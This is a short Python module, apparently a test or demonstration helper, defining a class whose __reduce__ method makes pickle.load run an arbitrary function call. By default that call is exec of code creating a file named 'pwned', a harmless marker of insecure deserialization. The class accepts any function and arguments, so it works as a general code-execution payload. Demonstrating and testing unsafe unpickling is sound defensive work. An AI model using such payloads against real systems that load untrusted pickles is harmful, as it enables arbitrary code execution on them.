"""Objects that run code when pickle.load reads them."""


class RunsCode:
    """Pickled as a call, by default one that creates a file `pwned` in the working directory."""

    def __init__(self, function=exec, *arguments):
        self.call = function, arguments or ("open('pwned', 'w')",)

    def __reduce__(self):
        return self.call
